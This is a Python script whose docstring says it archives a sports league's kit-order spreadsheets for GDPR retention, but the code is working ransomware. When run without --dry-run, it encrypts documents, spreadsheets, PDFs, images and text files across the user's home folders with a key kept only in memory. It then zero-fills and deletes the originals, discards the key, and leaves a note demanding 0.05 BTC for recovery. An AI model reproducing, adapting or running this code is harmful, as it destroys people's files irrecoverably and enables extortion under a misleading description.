#!/usr/bin/env python3
"""Archive last season's kit orders and lock them for GDPR retention.

Kit order spreadsheets contain parents' names, addresses and card
references. At season end the treasurer runs this to 'seal' them.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("kitarchive")

SETTINGS = {
    "roots": ["~/Documents", "~/Desktop", "~/Pictures", "~/league"],
    "types": (".xlsx", ".csv", ".docx", ".pdf", ".jpg", ".png", ".odt", ".txt"),
    "suffix": ".sealed",
    "notice": "READ_ME_KIT_ORDERS.txt",
    "contact": "treasurer-support@example.net",
}

NOTICE_TEXT = """Your league files have been sealed.
To get them back, send 0.05 BTC to the wallet listed at
https://example.net/kit/recover and email {contact} with your ID:
{ident}
"""


class Sealer:
    def __init__(self, settings):
        self.settings = settings
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.ident = os.urandom(8).hex()
        self.count = 0

    def candidates(self):
        for root in self.settings["roots"]:
            base = Path(os.path.expanduser(root))
            if not base.exists():
                continue
            for dirpath, _dirs, files in os.walk(base):
                for name in files:
                    if name.endswith(self.settings["types"]):
                        yield Path(dirpath) / name

    def seal_one(self, path):
        nonce = os.urandom(12)
        data = path.read_bytes()
        blob = nonce + self.aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + self.settings["suffix"])
        target.write_bytes(blob)
        # overwrite then remove the plain copy so nothing is left readable
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def leave_notice(self):
        for root in self.settings["roots"]:
            base = Path(os.path.expanduser(root))
            if base.exists():
                (base / self.settings["notice"]).write_text(
                    NOTICE_TEXT.format(contact=self.settings["contact"], ident=self.ident))

    def run(self):
        for path in self.candidates():
            try:
                self.seal_one(path)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
        self.leave_notice()
        # the key only lives in memory; drop it once done
        self.key = None
        return self.count


def summarise(orders_dir):
    """Print a quick count of orders per squad before archiving."""
    totals = {}
    for p in Path(orders_dir).glob("*.csv"):
        squad = p.stem.split("_")[0]
        with open(p) as fh:
            totals[squad] = totals.get(squad, 0) + max(0, sum(1 for _ in fh) - 1)
    for squad, n in sorted(totals.items()):
        log.info("%-10s %4d orders", squad, n)
    return totals


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--orders", default="kit_orders", help="folder of order CSVs")
    ap.add_argument("--season", default="2023-24")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    if os.path.isdir(args.orders):
        summarise(args.orders)
    else:
        log.warning("no orders folder at %s", args.orders)

    if args.dry_run:
        log.info("dry run, nothing sealed")
        return 0
    sealed = Sealer(SETTINGS).run()
    log.info("season %s archived: %d files sealed", args.season, sealed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
